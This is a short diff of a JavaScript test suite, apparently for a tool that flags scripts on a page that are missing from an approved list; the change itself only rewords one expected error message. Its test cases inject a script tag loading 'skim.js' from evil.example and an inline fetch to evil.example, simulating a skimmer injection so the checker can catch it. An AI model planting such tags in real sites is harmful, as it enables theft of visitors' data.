@@ -116,7 +116,7 @@ describe.each(['classic', 'module', 'isolated'])('a page with the %s tag', (tag)
         new RegExp(`a script has changed: .*/${wanted.replaceAll('.', '\\.')}$`),
         () => (site.change = (file, text) => (file === wanted ? `${text} ` : text)),
       ]),
-      [/cannot be had/, () => (site.change = () => undefined)],
+      [/cannot be fetched/, () => (site.change = () => undefined)],
       [/not listed: .*skim/, () => (site.html += '<SCRIPT async\nSRC=https://evil.example/skim.js></SCRIPT>')],
       [/not listed: .*extra/, () => (site.html += '<link rel="modulepreload" href="/extra.js">')],
       [/not listed: sha256/, () => (site.html += '<script>fetch("https://evil.example")</script>')],
